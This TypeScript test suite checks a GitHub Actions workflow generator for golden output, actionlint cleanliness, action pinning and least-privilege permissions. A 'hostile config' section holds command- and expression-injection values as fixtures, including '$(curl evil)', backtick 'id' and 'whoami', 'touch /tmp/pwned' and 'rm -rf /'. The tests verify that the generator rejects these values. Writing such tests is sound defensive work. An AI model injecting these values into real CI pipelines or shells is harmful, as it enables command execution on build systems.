import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseConfig } from '../../src/config/config.js';
import { KNOWN_PINS, parsePinFlag } from '../../src/workflow/pins.js';
import { renderWorkflow } from '../../src/workflow/render.js';
import { buildWorkflow, workflowConfigPath } from '../../src/workflow/workflow.js';
import { expectGolden } from '../helpers/golden.js';
import { ROOT } from '../helpers/paths.js';
import { actionlint, workflowProblems } from '../helpers/workflow-rules.js';

/** A stand-in pin for our action: any full SHA will do for the generator. */
const OURS = {
  'honua/parallel-tests': { sha: '0123456789abcdef0123456789abcdef01234567', version: 'v1.0.0' },
};

function generate(text: string, file = 'parallel-tests.yml'): string {
  return renderWorkflow(
    buildWorkflow({
      config: parseConfig(text, file),
      configPath: file,
      configSource: file,
      regenerate: `npx parallel-tests generate --config ${file}`,
      pins: OURS,
    }),
  );
}

function errorOf(fn: () => unknown): string {
  try {
    fn();
  } catch (err) {
    return (err as Error).message;
  }
  throw new Error('expected an error');
}

const preset = (name: string) => readFileSync(path.join(ROOT, 'workflows-templates', `${name}.yml`), 'utf8');

/** Every `run:` the generator may write: fixed text, nothing from the config. */
const FIXED_RUNS = new Set([
  'python -m pip install pytest pytest-xdist',
  'python -m pip install -r "$REQUIREMENTS"',
  'sudo apt-get update\nsudo apt-get install --yes --no-install-recommends python3-qgis python3-pytest python3-pytest-xdist\n',
  'npm ci',
]);

function runs(text: string): string[] {
  const wf = parse(text) as { jobs: Record<string, { steps: { run?: string }[] }> };
  return Object.values(wf.jobs).flatMap((j) => j.steps.flatMap((s) => (s.run === undefined ? [] : [s.run])));
}

/** Checks a generated workflow the way CI would see it: actionlint, the security rules, fixed run: lines. */
async function expectSound(text: string): Promise<void> {
  expect(await actionlint(text)).toEqual([]);
  expect(workflowProblems(text)).toEqual([]);
  for (const run of runs(text)) expect(FIXED_RUNS.has(run), `run: ${JSON.stringify(run)}`).toBe(true);
}

const VARIANTS: Record<string, string> = {
  'one pytest suite, no image': 'suites:\n  - name: py\n    framework: pytest\n',
  'every framework, max-parallel, several runner labels': `runners:
  - labels: [self-hosted, linux, arc-runner-set]
    cores: 16
workflow:
  runs-on: [self-hosted, linux]
  default-branch: trunk
  max-parallel: 6
  retention-days: 3
  requirements: requirements-test.txt
  pins:
    actions/setup-go: { sha: 4469467582903e8ec2bbde2e1c1cd4fdb0d3e9e0, version: v5.0.0 }
suites:
  - { name: py, framework: pytest }
  - { name: cs, framework: nunit, project: tests/Cs.Tests }
  - { name: web, framework: jest }
  - { name: ui, framework: vitest }
  - { name: go, framework: go, path: ./... }
  - { name: custom, framework: command, command: ./run-tests.sh }
`,
  'QGIS in a container image': `workflow:
  qgis: { suites: [qgis], image: qgis/qgis:release-3_34 }
suites:
  - { name: py, framework: pytest }
  - { name: qgis, framework: pytest, env: { QT_QPA_PLATFORM: offscreen } }
`,
};

describe('generate: the presets (golden files, actionlint, security rules)', () => {
  it.each([
    ['honua', 'workflow-honua.yml'],
    ['pytest-xdist', 'workflow-pytest-xdist.yml'],
  ])('%s', async (name, golden) => {
    const text = generate(preset(name), `${name}.yml`);
    expectGolden(golden, text);
    await expectSound(text);
  });

  it.each(Object.entries(VARIANTS))('%s', async (_, config) => {
    await expectSound(generate(config));
  });

  it('gives byte-identical YAML for the same config', () => {
    expect(generate(preset('honua'))).toBe(generate(preset('honua')));
  });

  it('shapes the jobs as the issue says', () => {
    const wf = parse(generate(preset('honua'))) as {
      jobs: Record<string, Record<string, unknown> & { steps: Record<string, unknown>[] }>;
    };
    expect(Object.keys(wf.jobs)).toEqual(['plan', 'image', 'test', 'report']);
    expect(wf.jobs.plan!.outputs).toEqual({
      matrix: '${{ steps.plan.outputs.matrix }}',
      'cache-hit': '${{ steps.image.outputs.cache-hit }}',
    });
    expect(wf.jobs.image!.if).toBe("needs.plan.outputs.cache-hit != 'true'");
    expect(wf.jobs.test!.strategy).toEqual({
      'fail-fast': false,
      matrix: '${{ fromJSON(needs.plan.outputs.matrix) }}',
    });
    const withs = wf.jobs.test!.steps.map((s) => s.with as Record<string, unknown> | undefined);
    expect(withs.find((w) => w?.command === 'image')).toMatchObject({ serve: true });
    expect(withs.find((w) => w?.command === 'run')).toMatchObject({
      suite: '${{ matrix.suite }}',
      'tests-file': '${{ matrix.tests-file }}',
    });
    // The honua preset enables both: the report job gets exactly those two write scopes.
    expect(wf.jobs.report!.permissions).toEqual({
      contents: 'read',
      actions: 'read',
      checks: 'write',
      'pull-requests': 'write',
    });
    // PyQGIS from apt: the QGIS suite uses the system Python, so setup-python skips it.
    const setupPython = wf.jobs.test!.steps.find((s) => String(s.uses).startsWith('actions/setup-python@'));
    expect(setupPython?.if).toBe("matrix.suite == 'python'");
  });

  it('gives the report job no write scope when neither check run nor comment is on', () => {
    const wf = parse(generate(VARIANTS['one pytest suite, no image']!)) as {
      jobs: Record<string, { permissions: unknown; needs?: unknown }>;
    };
    expect(wf.jobs.report!.permissions).toEqual({ contents: 'read', actions: 'read' });
    expect(Object.keys(wf.jobs)).toEqual(['plan', 'test', 'report']);
    expect(wf.jobs.test!.needs).toBe('plan');
  });
});

describe('generate: the rules are checked for real', () => {
  // The checker must catch each violation, or the tests above prove nothing.
  const good = generate(preset('honua'));
  it.each([
    [
      'an expression in run',
      (t: string) => t.replace('run: npm ci', 'run: echo ${{ github.event.issue.title }}'),
    ],
    ['a floating tag', (t: string) => t.replace(/actions\/checkout@[0-9a-f]{40}/, 'actions/checkout@v6')],
    ['write-all', (t: string) => t.replace('permissions: {}', 'permissions: write-all')],
    ['a missing timeout', (t: string) => t.replace('    timeout-minutes: 15\n', '')],
    ['report without always()', (t: string) => t.replace('if: always()', 'if: success()')],
    ['pull_request_target', (t: string) => t.replace('  pull_request:\n', '  pull_request_target:\n')],
    ['credentials kept', (t: string) => t.replace('persist-credentials: false', 'persist-credentials: true')],
  ])('%s', (_, mutate) => {
    const bad = mutate(good.replace('run: python -m pip install pytest pytest-xdist', 'run: npm ci'));
    expect(bad).not.toBe(good);
    expect(workflowProblems(bad)).not.toEqual([]);
  });

  it('actionlint finds an untrusted expression in run', async () => {
    const bad = good.replace(
      'run: python -m pip install pytest pytest-xdist',
      'run: echo "${{ github.event.issue.title }}"',
    );
    expect((await actionlint(bad)).map((r) => r.kind)).toContain('expression');
  });
});

describe('generate: pins', () => {
  it('names every action that has no pin, and both ways to give one', () => {
    const config = parseConfig('suites:\n  - { name: g, framework: go }\n', 'p.yml');
    const message = errorOf(() =>
      buildWorkflow({ config, configPath: 'p.yml', configSource: 'p.yml', regenerate: 'x' }),
    );
    expect(message).toContain('p.yml: the workflow needs these actions pinned');
    expect(message).toMatch(/honua\/parallel-tests \(/);
    expect(message).toMatch(/actions\/setup-go \(go suites: g\)/);
    expect(message).toContain('workflow.pins');
    expect(message).toContain('--pin');
  });

  it('takes a flag over the config over the shipped table', () => {
    const sha = (c: string) => c.repeat(40);
    const text = `workflow:\n  pins:\n    actions/checkout: { sha: ${sha('b')}, version: v9.9.9 }\nsuites:\n  - { name: py, framework: pytest }\n`;
    const config = parseConfig(text, 'p.yml');
    const render = (pins: Record<string, { sha: string; version: string }>) =>
      renderWorkflow(
        buildWorkflow({ config, configPath: 'p.yml', configSource: 'p.yml', regenerate: 'x', pins }),
      );
    expect(render(OURS)).toContain(`actions/checkout@${sha('b')} # v9.9.9`);
    const flag = parsePinFlag(`actions/checkout@${sha('c')} # v10.0.0`);
    expect(render({ ...OURS, [flag.action]: flag.pin })).toContain(`actions/checkout@${sha('c')} # v10.0.0`);
    const plain = renderWorkflow(
      buildWorkflow({
        config: parseConfig('suites:\n  - { name: py, framework: pytest }\n', 'p.yml'),
        configPath: 'p.yml',
        configSource: 'p.yml',
        regenerate: 'x',
        pins: OURS,
      }),
    );
    expect(plain).toContain(
      `actions/checkout@${KNOWN_PINS['actions/checkout']!.sha} # ${KNOWN_PINS['actions/checkout']!.version}`,
    );
  });

  it.each([
    'honua/parallel-tests@v1',
    'honua/parallel-tests@0123456 # v1',
    `honua/parallel-tests@${'a'.repeat(40)}`,
  ])('refuses --pin %s', (flag) => {
    expect(errorOf(() => parsePinFlag(flag))).toMatch(
      /expected OWNER\/REPO@<full 40-hex commit SHA> # VERSION/,
    );
  });
});

describe('generate: a hostile config', () => {
  const HOSTILE = '${{ github.event.issue.title }}';
  // Values that never reach the workflow: the steps read the config file themselves.
  const accepted = `runners:
  - labels: ["ubuntu-latest'; $(curl evil)", "\`id\`", "${HOSTILE}"]
    cores: 4
suites:
  - name: py
    framework: pytest
    path: "tests/$(touch /tmp/pwned)/\`id\`"
    markers: "not slow' or \\"x\\" and ${HOSTILE}"
    env:
      EVIL: "line one\\n$(id)\\n${HOSTILE}"
      QUOTE: "'\\"\`"
  - name: cs
    framework: xunit
    project: "tests/\`whoami\`"
    filter: "${HOSTILE}"
`;

  it('emits nothing of the values that only the steps read', async () => {
    const text = generate(accepted);
    await expectSound(text);
    for (const fragment of ['issue.title', '$(', '`', 'pwned', 'whoami', 'EVIL', 'curl'])
      expect(text, fragment).not.toContain(fragment);
  });

  it.each([
    [
      'a suite name with a quote',
      `suites:\n  - name: "py'; $(id)"\n    framework: pytest\n`,
      2,
      /"name" must match/,
    ],
    [
      'a suite name with an expression',
      `suites:\n  - framework: pytest\n    name: "${HOSTILE}"\n`,
      3,
      /"name" must match/,
    ],
    [
      'a coverage glob with an expression',
      `workflow:\n  coverage: "${HOSTILE}"\nsuites:\n  - { name: py, framework: pytest }\n`,
      2,
      /"coverage" must match .*no '\$' and no line breaks/,
    ],
    [
      'requirements with a line break',
      `workflow:\n  requirements: "r.txt\\nrm -rf /"\nsuites:\n  - { name: py, framework: pytest }\n`,
      2,
      /"requirements" must match/,
    ],
    [
      'a runs-on label with a quote',
      `workflow:\n  runs-on: "ubuntu-latest' || $(id)"\nsuites:\n  - { name: py, framework: pytest }\n`,
      2,
      /"runs-on" must be a label or a list of labels/,
    ],
    [
      'a default branch with an expression',
      `workflow:\n  default-branch: "${HOSTILE}"\nsuites:\n  - { name: py, framework: pytest }\n`,
      2,
      /"default-branch" must match/,
    ],
    [
      'a QGIS image with a quote',
      `workflow:\n  qgis: { suites: [q], image: "qgis' || '" }\nsuites:\n  - { name: q, framework: pytest }\n`,
      2,
      /"image" must match/,
    ],
    [
      'a pin version with an expression',
      `workflow:\n  pins:\n    honua/parallel-tests:\n      sha: ${'a'.repeat(40)}\n      version: "${HOSTILE}"\nsuites:\n  - { name: py, framework: pytest }\n`,
      5,
      /"version" must match/,
    ],
    [
      'a pin that is a tag',
      `workflow:\n  pins:\n    honua/parallel-tests: { sha: v1, version: v1 }\nsuites:\n  - { name: py, framework: pytest }\n`,
      3,
      /"sha" must match/,
    ],
    [
      'QGIS for a suite that does not exist',
      `workflow:\n  qgis:\n    suites: [nope]\nsuites:\n  - { name: py, framework: pytest }\n`,
      3,
      /workflow\.qgis\.suites names "nope", which is not a suite/,
    ],
  ])('rejects %s, naming the field and its line', (_, text, line, message) => {
    const error = errorOf(() => parseConfig(text, 'p.yml'));
    expect(error).toMatch(new RegExp(`^p\\.yml:${line}:\\d+: `));
    expect(error).toMatch(message);
  });

  it('rejects a results glob with an expression, naming the suite and its line', () => {
    const config = parseConfig(
      `suites:\n  - name: py\n    framework: pytest\n    results: "r/${HOSTILE}/*.xml"\n`,
      'p.yml',
    );
    const error = errorOf(() =>
      buildWorkflow({ config, configPath: 'p.yml', configSource: 'p.yml', regenerate: 'x', pins: OURS }),
    );
    expect(error).toMatch(/suite "py" \(line 2\): "results" cannot be written into the workflow/);
  });

  it('passes requirements with backticks only through env, never into the shell line', async () => {
    const text = generate(
      'workflow:\n  requirements: "`id`.txt"\nsuites:\n  - { name: py, framework: pytest }\n',
    );
    await expectSound(text);
    expect(text).toContain('REQUIREMENTS: "`id`.txt"');
  });
});

describe('generate: the config path inside the workflow', () => {
  it.each([
    ['parallel-tests.yml', '.github/workflows/parallel-tests.yml', 'parallel-tests.yml'],
    ['ci/parallel-tests.yml', '.github/workflows/pt.yml', 'ci/parallel-tests.yml'],
    [
      'examples/honua/parallel-tests.yml',
      'examples/honua/.github/workflows/parallel-tests.yml',
      'parallel-tests.yml',
    ],
    ['./a/../p.yml', 'out/wf.yml', 'p.yml'],
  ])('%s with %s -> %s', (config, out, expected) => {
    expect(workflowConfigPath(config, out)).toBe(expected);
  });

  it('refuses a config outside the repository the workflow belongs to', () => {
    expect(errorOf(() => workflowConfigPath('p.yml', 'examples/honua/.github/workflows/x.yml'))).toMatch(
      /outside the repository examples\/honua/,
    );
  });
});
